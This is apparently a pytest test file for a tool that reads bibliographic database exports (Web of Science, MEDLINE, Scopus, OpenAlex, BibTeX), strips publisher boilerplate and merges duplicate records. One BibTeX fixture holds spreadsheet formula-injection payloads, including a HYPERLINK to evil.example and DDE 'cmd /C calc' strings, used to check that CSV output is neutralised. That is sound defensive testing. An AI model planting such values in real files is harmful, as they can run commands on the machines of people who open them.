"""Database exports as they come (Web of Science, MEDLINE, Scopus, IEEE Xplore, Lens, Dimensions, OpenAlex),
publisher boilerplate, duplicates across databases and formula-safe CSV cells: tiny files written here, and the
real exports of ../shared/corpora/exports (skipped without ../shared)."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import pandas as pd
import pytest

from tests.support import ROOT, SHARED, run_in_process
from helpers.analysis.corpus import CorpusError, parse_report, read_corpus

EXPORTS = SHARED / "corpora" / "exports"
needs_exports = pytest.mark.skipif(not EXPORTS.is_dir(),
                                   reason="the real database exports are in ../shared/corpora/exports (not in a clone)")

A = "We study graph neural networks for molecules and report strong results."
B = "Large language models hallucinate; we measure how often and why it happens."
C = "Quantum sampling algorithms beat classical ones on non-logconcave targets here."


def write(folder: Path, name: str, text: str) -> Path:
    path = folder / name
    path.write_text(text, encoding="utf-8")
    return path


WOS = f"""FN Clarivate Analytics Web of Science
VR 1.0
PT J
AU Bin, X
   Thakur, J
AF Bin, Xin
   Thakur, Jagruti
TI Circular economy metrics for batteries: Enhancing sustainability in
   energy storage systems
SO SUSTAINABLE PRODUCTION AND CONSUMPTION
DE Circularity Indicators; Circular Economy; Electric Vehicles (EVs)
   battery
AB {A} We present the Decision Deck (DD) project (http://www.
   decision -deck.org/) which aims at open tools. (C) 2012 Elsevier Ltd. All rights reserved.
PY 2025
DI 10.1016/J.SPC.2025.02.014
UT WOS:001450006600001
ER

PT J
AU Roe, R
TI No abstract in this one
SO J OF X
PY 2024
UT WOS:2
ER

EF
"""


def test_web_of_science_plain_text_is_read_as_records(tmp_path):
    corpus = read_corpus(write(tmp_path, "savedrecs.txt", WOS))
    assert corpus.blocks[["first_line", "last_line", "kind", "key"]].values.tolist() == [
        [3, 18, "abstract", "WOS:001450006600001"], [20, 26, "no-abstract", "WOS:2"]]
    paper = corpus.papers.iloc[0]
    assert (paper.title, paper.authors, paper.year, paper.venue, paper.doi, paper.keywords) == (
        "Circular economy metrics for batteries: Enhancing sustainability in energy storage systems",
        "Xin Bin; Jagruti Thakur", 2025, "SUSTAINABLE PRODUCTION AND CONSUMPTION", "10.1016/j.spc.2025.02.014",
        "Circularity Indicators; Circular Economy; Electric Vehicles (EVs) battery")
    # The URL the export broke across two lines is whole again; the copyright statement is not analysed.
    assert paper.text == (f"{A} We present the Decision Deck (DD) project (http://www.decision-deck.org/) which "
                          "aims at open tools.")
    assert paper.published_text.endswith("open tools. (C) 2012 Elsevier Ltd. All rights reserved.")
    assert corpus.headers == {"savedrecs.txt": "Clarivate Analytics Web of Science"}
    report = parse_report(corpus)
    # "(C) 2012 Elsevier Ltd." and "All rights reserved.": two sentences.
    assert report.loc[0, ["blocks", "abstract", "no-abstract", "boilerplate_sentences"]].tolist() == [2, 1, 1, 2]


def test_a_broken_web_of_science_file_is_one_line_naming_file_and_line(tmp_path):
    path = write(tmp_path, "savedrecs.txt", WOS.replace("PY 2024\n", "PY 2024\nthis line has no tag\n"))
    with pytest.raises(CorpusError) as error:
        read_corpus(path)
    assert error.value.problems == [f"{path}: line 25: not a tagged line (a tag, or an indented continuation, "
                                    "expected): 'this line has no tag'"]
    unfinished = write(tmp_path, "open.txt", WOS.split("ER\n\nPT J")[0])
    with pytest.raises(CorpusError, match=r"open.txt: line 3: this record has no end \('ER' line\)"):
        read_corpus(unfinished)


def test_text_blocks_that_are_a_tagged_export_are_refused_with_the_format_named(tmp_path):
    path = write(tmp_path, "notes.txt", "My export\n\n" + WOS.split("VR 1.0\n")[1])
    with pytest.raises(CorpusError) as error:
        read_corpus(path)
    assert error.value.problems == [f"{path}: line 1: looks like a Web of Science plain text export, not abstracts "
                                    "as text blocks; give the export as it was saved (its first line a record's "
                                    "first tag)"]
    out = tmp_path / "out"
    result = run_in_process("analyse", str(path), "--out", str(out))
    assert result.returncode == 2 and not out.exists()
    assert result.stderr.strip().splitlines() == [f"error: {problem}" for problem in error.value.problems]


MEDLINE = f"""PMID- 35757629\r
OWN - NLM\r
TI  - Knowledge Mapping of Multicriteria Decision Analysis in Healthcare: A \r
      Bibliometric Analysis.\r
LID - 10.3389/fpubh.2022.895552 [doi]\r
LID - 895552\r
AB  - OBJECTIVE: {A} METHODS: {B} CONCLUSION: Done.\r
      Copyright © 2022 Dai, Xu and Liao.\r
FAU - Dai, Zeqi\r
AU  - Dai Z\r
FAU - Xu, Simin\r
AU  - Xu S\r
DP  - 2022\r
JT  - Frontiers in public health\r
OT  - MCDA\r
OT  - healthcare\r
\r
PMID- 1\r
TI  - A second record without abstract.\r
DP  - 2021 Jun\r
"""


@pytest.mark.parametrize("name", ["pubmed.txt", "pubmed.nbib"])
def test_medline_is_read_as_records(tmp_path, name):
    corpus = read_corpus(write(tmp_path, name, MEDLINE))
    assert corpus.blocks[["first_line", "last_line", "kind", "key"]].values.tolist() == [
        [1, 16, "abstract", "35757629"], [18, 20, "no-abstract", "1"]]
    paper = corpus.papers.iloc[0]
    assert (paper.title, paper.authors, paper.year, paper.venue, paper.doi, paper.keywords) == (
        "Knowledge Mapping of Multicriteria Decision Analysis in Healthcare: A Bibliometric Analysis.",
        "Zeqi Dai; Simin Xu", 2022, "Frontiers in public health", "10.3389/fpubh.2022.895552", "MCDA; healthcare")
    assert paper.text == f"{A} {B} Done."
    assert corpus.summary()["structured_headings"] == 3 and corpus.summary()["boilerplate_sentences"] == 1


SCOPUS = ("\ufeffAuthors,Author full names,Title,Year,Source title,DOI,Link,Abstract,Author Keywords,EID\n"
          f'"Gao Y., Hu Y.","Gao, Yuan (5719); Hu, Yimei (5658)",A title,2021,Research Policy,10.1016/J.X.1,'
          f'https://www.scopus.com/x,"{A} © 2021 Elsevier B.V.",alpha; beta,2-s2.0-1,\n'
          '"Doe J.",,No abstract,2020,Research Policy,,,[No abstract available],,2-s2.0-2,\n')


def test_scopus_csv_is_read_by_its_column_names_and_its_extra_field_is_noted(tmp_path):
    corpus = read_corpus(write(tmp_path, "scopus.csv", SCOPUS))
    paper = corpus.papers.iloc[0]
    assert (paper.title, paper.authors, paper.year, paper.venue, paper.doi, paper.url, paper.keywords, paper.text) == (
        "A title", "Yuan Gao; Yimei Hu", 2021, "Research Policy", "10.1016/j.x.1", "https://www.scopus.com/x",
        "alpha; beta", A)
    assert corpus.blocks[["kind", "key"]].values.tolist() == [["abstract", "2-s2.0-1"], ["no-abstract", "2-s2.0-2"]]
    report = parse_report(corpus)
    assert report.loc[0, ["blocks", "extra_fields", "boilerplate_sentences"]].tolist() == [2, 2, 1]


def test_a_project_table_with_an_extra_field_is_still_an_error(tmp_path):
    path = write(tmp_path, "mine.csv", f"title,abstract\nT,{A},extra\n")
    with pytest.raises(CorpusError, match="line 2: has 3 fields where the header has 2"):
        read_corpus(path)


@pytest.mark.parametrize("name,text", [
    ("ieee.csv", '"Document Title",Authors,"Publication Title","Publication Year",Abstract,DOI,"Author Keywords"\n'
                 f'A title,Jane Doe; Rick Roe,IEEE Trans. X,2023,"{A}",10.1109/X.1,alpha;beta\n'),
    ("lens.csv", '"Lens ID",Title,"Publication Year","Source Title","Author/s",Abstract,DOI,Keywords\n'
                 f'000-1,A title,2023,IEEE Trans. X,Jane Doe; Rick Roe,"{A}",10.1109/X.1,alpha; beta\n'),
    ("dimensions.csv", '"About the data: Exported on Dec 06, 2026. Criteria: x."\n'
                       '"Rank","Publication ID","DOI","Title","Abstract","Source title","PubYear","Authors"\n'
                       f'1,pub.1,10.1109/X.1,A title,"{A}",IEEE Trans. X,2023,"Doe, Jane; Roe, Rick"\n'),
    ("wos.tsv", "PT\tAU\tAF\tTI\tSO\tDE\tAB\tPY\tDI\tUT\t\n"
                f"J\tDoe, J; Roe, R\tDoe, Jane; Roe, Rick\tA title\tIEEE Trans. X\talpha; beta\t{A}\t2023\t"
                "10.1109/X.1\tWOS:1\t\n"),
])
def test_ieee_lens_dimensions_and_wos_tab_delimited_tables_are_read_by_their_column_names(tmp_path, name, text):
    corpus = read_corpus(write(tmp_path, name, text))
    paper = corpus.papers.iloc[0]
    assert (paper.title, paper.authors, paper.year, paper.venue, paper.doi, paper.text) == (
        "A title", "Jane Doe; Rick Roe", 2023, "IEEE Trans. X", "10.1109/x.1", A)
    assert paper.get("keywords", "") == ("" if name == "dimensions.csv" else "alpha; beta")
    kinds = corpus.blocks["kind"].tolist()
    assert kinds == (["other", "abstract"] if name == "dimensions.csv" else ["abstract"])


def openalex_work(number: int, text: str, **extra) -> dict:
    words = text.split()
    index: dict[str, list[int]] = {}
    for position, word in enumerate(words):
        index.setdefault(word, []).append(position)
    return {"id": f"https://openalex.org/W{number}", "doi": f"https://doi.org/10.1234/ABC.{number}",
            "title": f"Work {number}", "display_name": f"Work {number}", "publication_year": 2020 + number,
            "authorships": [{"author_position": "first", "author": {"id": "https://openalex.org/A1",
                                                                     "display_name": "Jane Doe"}}],
            "primary_location": {"source": {"display_name": "Journal of X", "type": "journal"}},
            "abstract_inverted_index": index, "type": "article", **extra}


@pytest.mark.parametrize("name", ["works.jsonl", "works.jsonl.gz", "page.json", "works.json"])
def test_openalex_works_read_with_the_abstract_rebuilt(tmp_path, name):
    works = [openalex_work(1, A), openalex_work(2, B, abstract_inverted_index=None)]
    if name == "page.json":
        data = json.dumps({"meta": {"count": 2}, "results": works}).encode()
    elif name == "works.json":
        data = json.dumps(works, indent=1).encode()
    else:
        data = "".join(json.dumps(work) + "\n" for work in works).encode()
    path = tmp_path / name
    path.write_bytes(gzip.compress(data, mtime=0) if name.endswith(".gz") else data)
    corpus = read_corpus(path)
    paper = corpus.papers.iloc[0]
    assert (paper.text, paper.title, paper.authors, paper.year, paper.venue, paper.doi) == (
        A, "Work 1", "Jane Doe", 2021, "Journal of X", "10.1234/abc.1")
    assert corpus.blocks["kind"].tolist() == ["abstract", "no-abstract"]


def test_a_folder_of_openalex_files_reads_its_gzipped_json_lines(tmp_path):
    (tmp_path / "part_000.jsonl.gz").write_bytes(gzip.compress((json.dumps(openalex_work(1, A)) + "\n").encode()))
    assert read_corpus(tmp_path).papers["title"].tolist() == ["Work 1"]


SCOPUS_BIB = f"""@ARTICLE{{Figueira2022986,
author={{Figueira, J.R. and Greco, S.}},
title={{ELECTRE-SCORE: A first outranking based method for scoring actions}},
journal={{European Journal of Operational Research}},
year={{2022}},
doi={{10.1016/j.ejor.2021.05.017}},
abstract={{{A} © 2021 The Authors}},
author_keywords={{ELECTRE methods;  Scoring methods}},
funding_details={{Fundação para a Ciência e a Tecnologia}},
funding_details={{Ministero dell’Istruzione}},
}}
"""

WOS_BIB = f"""\ufeff
@article{{ WOS:000719584000015,
Author = {{Figueira, Jose Rui and Greco, Salvatore}},
Title = {{{{ELECTRE-SCORE : A first outranking based method for scoring actions}}}},
Journal = {{{{EUROPEAN JOURNAL OF OPERATIONAL RESEARCH}}}},
Year = {{{{2022}}}},
Abstract = {{{{{A}
   (c) 2021 The Authors. Published by Elsevier B.V. This is an open
   access article under the CC BY-NC-ND license (
   http://creativecommons.org/licenses/by-nc-nd/4.0/ )}}}},
DOI = {{{{10.1016/J.EJOR.2021.05.017}}}},
Unique-ID = {{{{WOS:000719584000015}}}},
}}

@article{{ WOS:2,
Author = {{Doe, Jane}},
Title = {{{{Only in this database}}}},
Journal = {{{{J X}}}},
Year = {{{{2020}}}},
Abstract = {{{{{C}}}}},
}}
"""


def test_scopus_bibtex_with_a_repeated_field_is_read(tmp_path):
    corpus = read_corpus(write(tmp_path, "scopus.bib", SCOPUS_BIB))
    paper = corpus.papers.iloc[0]
    assert (paper.authors, paper.doi, paper.keywords, paper.text) == (
        "J.R. Figueira; S. Greco", "10.1016/j.ejor.2021.05.017", "ELECTRE methods; Scoring methods", A)
    assert corpus.fields.loc[0, "funding_details"] == ("Fundação para a Ciência e a Tecnologia; "
                                                       "Ministero dell’Istruzione")


def test_the_same_paper_from_two_databases_is_one_paper_the_richer_record_kept(tmp_path):
    wos, scopus = write(tmp_path, "wos.bib", WOS_BIB), write(tmp_path, "scopus.bib", SCOPUS_BIB)
    corpus = read_corpus([wos, scopus])
    assert corpus.papers[["source_file", "title", "doi"]].values.tolist() == [
        ["wos.bib", "Only in this database", ""],
        ["scopus.bib", "ELECTRE-SCORE: A first outranking based method for scoring actions",
         "10.1016/j.ejor.2021.05.017"]]
    assert corpus.blocks[["source_file", "kind"]].values.tolist() == [
        ["wos.bib", "duplicate"], ["wos.bib", "abstract"], ["scopus.bib", "abstract"]]
    assert corpus.merges.values.tolist() == [[corpus.papers.paper_id[1], "scopus.bib:1", "wos.bib:1", "same abstract"]]
    assert corpus.papers.loc[1, "locations"] == "wos.bib:1; scopus.bib:1"
    report = parse_report(corpus)
    assert report.set_index("source_file").loc["total", ["blocks", "abstract", "duplicate"]].tolist() == [3, 2, 1]
    assert "merged_records" not in report  # the same abstract: a duplicate block, listed in merges


def test_records_match_by_doi_and_by_title_and_year(tmp_path):
    first = write(tmp_path, "a.csv", f"title,abstract,year,doi\nA Study of Things,{A},2020,https://doi.org/10.5/ABC\n"
                                     f"Robust Sorting Models Here,{B},2021,\n")
    second = write(tmp_path, "b.csv", f"title,abstract,year,doi,authors\nA study of things.,{C},2020,10.5/abc,J Doe\n"
                                      f"ROBUST SORTING MODELS HERE,{C} More.,2021,10.9/x,R Roe\n")
    corpus = read_corpus([first, second])
    # The first pair by DOI, the second by title and year (one of them has no DOI); the richer records (with
    # authors) are the papers.
    assert corpus.papers[["source_file", "position", "occurrences"]].values.tolist() == [["b.csv", 1, 2],
                                                                                       ["b.csv", 2, 2]]
    assert corpus.merges["matched_by"].tolist() == ["doi", "title and year"]
    doi = write(tmp_path, "c.csv", f"title,abstract,doi\nOne,{A},https://doi.org/10.5555/ABC\n"
                                   f"Other title,{B},{{10.5555/abc}}\n")
    corpus = read_corpus(doi)
    assert len(corpus.papers) == 1 and corpus.merges["matched_by"].tolist() == ["doi"]
    assert corpus.papers["doi"].tolist() == ["10.5555/abc"]


def test_different_dois_never_merge_by_title(tmp_path):
    path = write(tmp_path, "a.csv", f"title,abstract,year,doi\nErratum to a paper here,{A},2020,10.1000/a\n"
                                    f"Erratum to a paper here,{B},2020,10.1000/b\n")
    assert len(read_corpus(path).papers) == 2


HOSTILE_BIB = """@string{icmlproc = "Proc. of ICML"}

@inproceedings{a1,
  title = {=HYPERLINK("https://evil.example/"&A1,"click")},
  author = {@SUM(1+1)*cmd|' /C calc'!A0 and Roe, Rick},
  booktitle = icmlproc # ", Workshop Track",
  year = {2024},
  doi = {{10.5555/ABC.1}},
  url = {+cmd|' /C calc'!A0},
  abstract = {One two three four five six seven.}
}

@inproceedings{a1,
  title = {-2+3 Second},
  author = {Moe, Jane and Poe, Rick},
  booktitle = {Proc. of ICML},
  year = {2024},
  abstract = {Eight nine ten eleven twelve thirteen.}
}
"""


def test_bibtex_concatenation_dois_and_authors_of_a_repeated_key(tmp_path):
    corpus = read_corpus(write(tmp_path, "h.bib", HOSTILE_BIB))
    assert corpus.papers[["venue", "doi", "authors"]].values.tolist() == [
        ["Proc. of ICML, Workshop Track", "10.5555/abc.1", "@SUM(1+1)*cmd|' /C calc'!A0; Rick Roe"],
        ["Proc. of ICML", "", "Jane Moe; Rick Poe"]]


def test_no_csv_cell_starts_a_spreadsheet_formula(tmp_path):
    out = tmp_path / "out"
    result = run_in_process("analyse", str(write(tmp_path, "h.bib", HOSTILE_BIB)), "--out", str(out), "--jobs", "1")
    assert result.returncode == 0, result.stderr
    papers = pd.read_csv(out / "papers.csv", keep_default_na=False, dtype=str)
    assert papers[["title", "authors", "url"]].values.tolist() == [
        ["'=HYPERLINK(\"https://evil.example/\"&A1,\"click\")", "'@SUM(1+1)*cmd|' /C calc'!A0; Rick Roe",
         "'+cmd|' /C calc'!A0"], ["'-2+3 Second", "Jane Moe; Rick Poe", ""]]
    for path in out.glob("*.csv"):
        for cell in pd.read_csv(path, keep_default_na=False, dtype=str).to_numpy().ravel():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path.name, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "", 1).isdigit(), (path.name, cell)
    # The Parquet parts keep the values as read.
    assert pd.read_parquet(out / "papers")["title"].tolist()[1] == "-2+3 Second"


# The real exports: every record accounted for, metadata on at least 95% of papers, no boilerplate analysed.
REAL = {  # file: records, papers
    "wos-circular-economy.txt": (95, 91), "pubmed-mcda.txt": (335, 334), "scopus-innovation.csv": (135, 128),
    "scopus-mcda.bib": (263, 257), "wos-mcda.bib": (236, 236),  # scopus-mcda: 3 proceedings volumes' own records
}
PUBLISHER = (r"(?<!\w)©|\([Cc]\) ?\d{4}|[Cc]opyright|All rights reserved|Licensee|Elsevier|MDPI|Springer|Emerald|Wiley"
             r"|Taylor & Francis|exclusive licen|Creative Commons|\bCC BY|^[A-Z]{2} |\b(?:PMID|FN|VR|ER|AB|TI)- ")


@needs_exports
@pytest.mark.parametrize("name", sorted(REAL))
def test_real_exports_every_record_accounted_for_and_metadata_found(name):
    corpus = read_corpus(EXPORTS / name)
    records, papers = REAL[name]
    assert len(corpus.blocks) == records
    assert len(corpus.papers) == papers
    for column in ("title", "year", "venue"):
        assert (corpus.papers[column].astype(str) != "").mean() >= 0.95, column
    texts = corpus.papers["text"]
    assert not texts.str.contains(PUBLISHER, regex=True).any(), texts[texts.str.contains(PUBLISHER)].head().tolist()


@needs_exports
def test_real_exports_hand_checked_records():
    wos = read_corpus(EXPORTS / "wos-circular-economy.txt").papers.set_index("doi")
    paper = wos.loc["10.1016/j.spc.2025.02.014"]
    assert (paper.title, paper.authors, paper.year, paper.venue) == (
        "Circular economy metrics for batteries: Enhancing sustainability in energy storage systems",
        "Xin Bin; Jagruti Thakur", 2025, "SUSTAINABLE PRODUCTION AND CONSUMPTION")
    assert paper.text.startswith("The transition to a circular economy (CE) is critical") and paper.n_words == 200
    pubmed = read_corpus(EXPORTS / "pubmed-mcda.txt").papers.set_index("doi")
    paper = pubmed.loc["10.3389/fpubh.2022.895552"]
    assert (paper.title, paper.year, paper.venue) == (
        "Knowledge Mapping of Multicriteria Decision Analysis in Healthcare: A Bibliometric Analysis.", 2022,
        "Frontiers in public health")
    assert paper.authors.startswith("Zeqi Dai; Simin Xu; Xue Wu")
    assert paper.text.startswith("Multicriteria decision analysis (MCDA) is a useful tool in complex decision-making")
    scopus = read_corpus(EXPORTS / "scopus-innovation.csv").papers.set_index("doi")
    paper = scopus.loc["10.1016/j.respol.2021.104221"]
    assert (paper.title, paper.year, paper.venue, paper.authors) == (
        "Can Public R&D Subsidy Facilitate Firms’ Exploratory Innovation? The Heterogeneous Effects between Central "
        "and Local Subsidy Programs", 2021, "Research Policy", "Gao Y.; Hu Y.; Liu X.; Zhang H.")
    assert not paper.text.endswith("Elsevier B.V.") and paper.published_text.endswith("© 2021 Elsevier B.V.")
    wos_bib = read_corpus(EXPORTS / "wos-mcda.bib").papers
    decision_deck = wos_bib[wos_bib["text"].str.contains("Decision Deck (DD) project", regex=False)].iloc[0]
    assert "(http://www.decision-deck.org/)" in decision_deck.text


@needs_exports
def test_real_wos_and_scopus_bibtex_give_each_shared_paper_once():
    import re

    from helpers.analysis.readers.identity import normalise_doi

    wos_text = (EXPORTS / "wos-mcda.bib").read_text(encoding="utf-8-sig")
    scopus_text = (EXPORTS / "scopus-mcda.bib").read_text(encoding="utf-8-sig")
    wos = {normalise_doi(d) for d in re.findall(r"DOI = \{\{(.*?)\}\}", wos_text)}
    scopus = {normalise_doi(d) for d in re.findall(r"\ndoi=\{(.*?)\}", scopus_text)}
    shared = wos & scopus
    assert len(shared) >= 144
    corpus = read_corpus([EXPORTS / "wos-mcda.bib", EXPORTS / "scopus-mcda.bib"])
    dois = corpus.papers["doi"]
    assert not dois[dois != ""].duplicated().any()
    assert shared <= set(dois)
    assert len(corpus.blocks) == 236 + 263


def test_a_method_provided_is_no_code_claim():
    # Issue 39: the one "dangling" claim of the Web of Science BibTeX export is about methodological solutions.
    from helpers.analysis.links.availability import classify_sentence

    sentence = ("The interdependent principles are justified, and the methodological solutions underlying their "
                "implementation are provided.")
    assert classify_sentence(sentence, sentence).statement == "none"
    assert classify_sentence("Our implementation is provided.", "").statement == "dangling"
    assert classify_sentence("The code underlying our experiments is available.", "").statement == "dangling"
    assert classify_sentence("The accompanying software package is freely available online.", "").statement \
        == "dangling"


def test_the_labelled_export_sentences_hold_no_export_text():
    labelled = pd.read_csv(ROOT / "tests" / "evaluation" / "availability_exports.csv", dtype=str,
                           keep_default_na=False)
    assert list(labelled.columns) == ["corpus", "key", "sentence_no", "sentence_sha1", "class", "why"]
    assert labelled["class"].value_counts().to_dict() == {"none": 60, "linked": 5, "dangling": 4}


@needs_exports
def test_the_labelled_export_sentences_are_found_in_the_real_exports():
    from helpers.analysis.links.evaluation import evaluate_verdicts, resolve_export_sentences

    labelled = pd.read_csv(ROOT / "tests" / "evaluation" / "availability_exports.csv", dtype=str,
                           keep_default_na=False)
    corpora = {}
    for name in sorted(set(labelled["corpus"])):
        corpus = read_corpus(EXPORTS / name)
        corpora[name] = corpus.blocks.merge(corpus.papers[["paper_id", "text"]], on="paper_id", how="left")
    rows = resolve_export_sentences(labelled, corpora)
    assert len(rows) == 69
    scores = evaluate_verdicts(rows).set_index("class")
    # What the classifier scores on them (reported, not a target): no false claim of a linked artefact.
    assert scores.loc["linked", "precision"] == 1.0


def test_ris_dois_are_normalised_and_keywords_kept(tmp_path):
    path = write(tmp_path, "a.ris", f"TY  - JOUR\nTI  - T\nDO  - https://doi.org/10.1234/ABC\nKW  - alpha\n"
                                    f"KW  - beta\nAB  - {A}\nER  - \n")
    paper = read_corpus(path).papers.iloc[0]
    assert (paper.doi, paper.keywords) == ("10.1234/abc", "alpha; beta")


def test_bad_json_and_gzip_files_are_one_line_errors(tmp_path):
    bad_gzip = tmp_path / "works.jsonl.gz"
    bad_gzip.write_bytes(b"not gzip at all")
    bad_json = write(tmp_path, "works.json", '[{"title": "T", "abstract": "x"},\n {"title": ]')
    with pytest.raises(CorpusError) as error:
        read_corpus([bad_gzip, bad_json])
    assert error.value.problems == [
        f"{bad_gzip}: not a gzip file (Not a gzipped file (b'no'))",
        f"{bad_json}: line 2: invalid JSON (Expecting value, column 12)"]


def test_a_large_tagged_text_file_is_read_whole_not_in_seed_pieces(tmp_path):
    from helpers.analysis.corpus import read_one_file
    from helpers.analysis.corpus.file_pieces import split_file

    path = write(tmp_path, "savedrecs.txt", WOS)
    assert len(split_file(path, "savedrecs.txt", piece_size=64)) == 1
    file_row, rows, problems = read_one_file(path, "savedrecs.txt", piece_size=64)
    assert problems == [] and [row["kind"] for row in rows] == ["abstract", "no-abstract"]
    seed = write(tmp_path, "abstracts.txt", f"{A}\n\n{B}\n\n{C}\n")
    assert len(split_file(seed, "abstracts.txt", piece_size=64)) == 3
